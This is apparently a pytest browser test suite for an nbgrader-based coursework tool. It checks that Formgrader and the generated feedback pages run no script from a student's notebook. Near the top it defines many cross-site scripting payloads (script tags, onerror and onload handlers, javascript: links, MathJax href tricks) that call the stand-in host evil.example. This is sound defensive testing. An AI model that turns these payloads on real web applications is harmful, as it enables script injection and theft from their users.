"""What people open, in a real browser: Formgrader while marking, and the feedback of a student, from the disk."""

import contextlib
import json
import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from nbgrader.api import Gradebook

from coursework.making.course import make
from coursework.marking.grader import grade
from coursework.showing.feedback import schemes

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
RUN = "window.ran=1;fetch('http://evil.example/')"
ATTACK = f"""\
I saw a fall, $x^2 < 1$. <script>{RUN}</script><img src=x onerror="{RUN}"> <b onmouseover="{RUN}">bold</b>

[click](javascript:{RUN}) [again](&#106;avascript:{RUN}) <javascript:{RUN}> [grades](/formgrader/api/grades)
![far](http://evil.example/far.png) ![near](attachment:near.png) [web](https://web.example/a_b?c=1)

$\\href{{javascript:{RUN}}}{{x}}$ $\\require{{html}}\\style{{a}}{{b}}$ \\\\(\\href{{javascript:{RUN}}}{{y}}\\\\)

$$
\\begin{{a}} <img src=x onerror="{RUN}"> \\end{{a}}
$$

```mermaid
<img src=x onerror="{RUN}">
```

<style>body {{ background: url(http://evil.example/style.png) }}</style><iframe src="http://evil.example/"></iframe>

</div></div><svg/onload="{RUN}"><meta http-equiv=refresh content="0;url=http://evil.example/">
"""
OUTPUTS = [
    {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m</pre><script>{RUN}</script>"},
    {"output_type": "display_data", "data": {"text/html": f"<script>{RUN}</script>", "text/plain": "<script>"}},
    {"output_type": "display_data", "data": {"application/javascript": RUN}, "metadata": {}},
    {"output_type": "display_data", "data": {"image/svg+xml": f"<svg onload='{RUN}'/>"}, "metadata": {}},
    {
        "output_type": "display_data",
        "data": {"image/png": PNG},
        "metadata": {"image/png": {"alt": f'"><script>{RUN}</script>', "width": "1 onerror=x"}},
    },
    {
        "output_type": "error",
        "ename": f"<img src=x onerror={RUN}>",
        "evalue": "x",
        "traceback": [f"<script>{RUN}</script>"],
    },
]
MARKUP = f"<img src=x onerror={RUN.split(';')[0]}>"
SCRIPTS = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"  # which Formgrader itself asks for


def hostile(notebook, experiment):
    """Attack every place of a notebook that a page may show."""
    for cell in notebook["cells"]:
        name = cell["metadata"]["nbgrader"]["grade_id"]
        if name == f"{experiment}-conclusion":
            cell |= {"source": ATTACK, "attachments": {"near.png": {"image/png": PNG}}}
        elif name == experiment:
            cell |= {
                "source": f"# </pre><script>{RUN}</script>\nraise ValueError('<script>{RUN}</script>')",
                "outputs": OUTPUTS,
            }
        elif cell["cell_type"] == "code" and not cell["metadata"]["nbgrader"]["grade"]:
            cell["source"] = f"raise type('<script>{RUN}</script>', (Exception,), {{}})('{MARKUP}')"
    text = {
        "cell_type": "markdown",
        "id": f'"><script>{RUN}</script>',
        "metadata": {"tags": [MARKUP]},
        "source": ATTACK,
    }
    notebook["cells"] += [text, text | {"cell_type": "raw"}, text | {"cell_type": MARKUP}]
    notebook["metadata"] |= {"title": MARKUP, "widgets": {"application/vnd.jupyter.widget-state+json": {"x": RUN}}}
    notebook["metadata"]["language_info"] = {"name": MARKUP, "pygments_lexer": MARKUP}


@pytest.fixture(scope="module")
def marked(alone, first, tmp_path_factory):
    """A course with an attacker's hand-in, marked, with its feedback."""
    course = make("a secret of the tests", alone, tmp_path_factory.mktemp("browser") / "course", alone)
    notebook = course.released(first.name, "mallory")
    hostile(notebook, first.experiment.name)
    for student in ("mallory", MARKUP.replace("/", "")):
        folder = course.folder / "submitted" / student / first.name
        folder.mkdir(parents=True)
        (folder / f"{first.name}.ipynb").write_text(json.dumps(notebook))
    with contextlib.suppress(RuntimeError):  # the one whose name no page can bear
        grade(course, first.name, say=lambda text: None)
    command = [Path(sys.executable).with_name("nbgrader"), "generate_feedback", first.name, "--student=mallory"]
    done = subprocess.run(command, cwd=course.folder, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    return course


@pytest.fixture(scope="module")
def browser(chromium):
    """Chromium, started once for all pages."""
    with chromium() as started:
        yield started


class Visit:
    """A page, and all requests that left it for another host, which are noted and go nowhere."""

    def __init__(self, browser, home):
        self.context, self.away, self.said = browser.new_context(), [], []
        self.written = []
        self.context.route("**/*", lambda route: self.pass_on(route, home))
        self.page = self.context.new_page()
        self.page.on("dialog", lambda dialog: (self.said.append(dialog.message), dialog.dismiss()))

    def pass_on(self, route, home):
        """Let only what is asked of our own pages through."""
        if route.request.method not in ("GET", "HEAD"):
            self.written.append(route.request.url)
        if route.request.url.startswith((home, "data:")):
            route.continue_()
        else:
            self.away.append(route.request.url)
            route.abort()

    def click_everything(self):
        """Click every link of what the student wrote; those to the web may open, and are noted."""
        for link in self.page.query_selector_all(".cleaned a"):
            link.dispatch_event("click")
        for element in self.page.query_selector_all(".cleaned *"):
            element.dispatch_event("mouseover")
        self.page.wait_for_timeout(300)
        for other in self.context.pages[1:]:
            other.close()

    def nothing_ran(self):
        """Whether no script of a student's has run, and nothing was asked of a stranger."""
        strangers = [url for url in self.away if not url.startswith((SCRIPTS, "https://web.example/"))]
        return not self.page.evaluate("window.ran") and not strangers and not self.said


@pytest.fixture(scope="module")
def formgrader(marked, tmp_path_factory):
    """The address of Formgrader, served as a teacher starts it in the course."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    settings = tmp_path_factory.mktemp("settings")
    environment = os.environ | {
        name: str(settings) for name in ("JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "IPYTHONDIR")
    }
    command = [sys.executable, "-m", "jupyter_server", "--no-browser", f"--port={port}", "--allow-root"]
    command += ["--IdentityProvider.token=", "--ServerApp.port_retries=0"]
    command += ["--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}"]
    log = settings / "log"
    with log.open("w") as written:
        server = subprocess.Popen(command, cwd=marked.folder, env=environment, stdout=written, stderr=subprocess.STDOUT)
        try:
            for _ in range(200):
                with contextlib.suppress(OSError):
                    urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status", timeout=5)
                    break
                assert server.poll() is None, log.read_text()
                time.sleep(0.2)
            yield f"http://127.0.0.1:{port}"
        finally:
            server.terminate()
            server.wait()


def test_a_script_that_runs_is_noticed(browser):
    """Else the tests below would prove nothing."""
    visit = Visit(browser, "http://nowhere.example/")
    visit.page.set_content(f"<p class='cleaned'><a href=\"javascript:{RUN}\">click</a></p>")
    assert visit.nothing_ran()
    visit.click_everything()
    assert visit.page.evaluate("window.ran") == 1
    assert visit.away
    assert not visit.nothing_ran()
    visit.context.close()


def test_nothing_of_a_student_s_runs_in_formgrader_and_the_scheme_is_there(browser, formgrader, marked, first):
    visit = Visit(browser, formgrader)
    with Gradebook(marked.database) as book:
        number = book.find_submission_notebook(first.name, first.name, "mallory").id
        students = [student.id for student in book.students]
    for place in ("manage_submissions/" + first.name, "manage_students", f"gradebook/{first.name}/{first.name}"):
        visit.page.goto(f"{formgrader}/formgrader/{place}")
        visit.page.wait_for_timeout(300)
        assert visit.nothing_ran(), (place, visit.away, visit.said)
    assert [student for student in students if "<" in student] == []
    visit.page.goto(f"{formgrader}/formgrader/submissions/{number}/")
    assert visit.nothing_ran(), (visit.away, visit.said)
    said = visit.page.inner_text("body")
    assert "I saw a fall" in said
    assert visit.page.query_selector("img[alt=near]").evaluate("image => image.naturalWidth") == 1
    conclusion = f"{first.experiment.name}-conclusion"
    scheme = schemes(marked, first, "mallory")[conclusion]
    assert re.sub(r"\W+", "", scheme.split("\n")[0]) in re.sub(r"\W+", "", said)
    # of the questions, for MathJax could not be fetched
    asked = visit.page.locator(".cleaned:has(math)").filter(has_not_text="I saw a fall")
    assert asked.locator("math").count() >= 5
    assert "$" not in asked.first.inner_text()
    assert asked.locator("math").first.bounding_box()["height"] > 5
    visit.page.fill(f"#{conclusion}", "1")
    visit.click_everything()
    assert visit.nothing_ran(), (visit.away, visit.said)
    assert [url for url in visit.written if conclusion not in url and "/formgrader/api/grade" not in url] == []
    visit.context.close()


def test_a_page_of_feedback_needs_no_network_and_no_script(browser, marked, first):
    (path,) = (marked.folder / "feedback" / "mallory").rglob("*.html")
    visit = Visit(browser, path.as_uri())
    visit.page.goto(path.as_uri())
    assert visit.away == []
    visit.click_everything()
    assert visit.nothing_ran(), (visit.away, visit.said)
    said = visit.page.inner_text("body")
    assert "not yet marked by a person" in said
    assert "I saw a fall" in said
    for line in schemes(marked, first, "mallory")[f"{first.experiment.name}-conclusion"].split("\n"):
        assert line[12:40] not in path.read_text()
    formula = visit.page.query_selector(".cleaned math msup")
    assert formula.bounding_box()["height"] > 5
    assert visit.page.query_selector("img[alt=near]").evaluate("image => image.naturalWidth") == 1
    assert visit.page.evaluate("document.scripts.length") == 0
    found = Axe().run(visit.page, None, {"resultTypes": ["violations"]}).response["violations"]
    assert [(v["id"], v["help"], [node["html"][:120] for node in v["nodes"][:3]]) for v in found] == []
    visit.context.close()
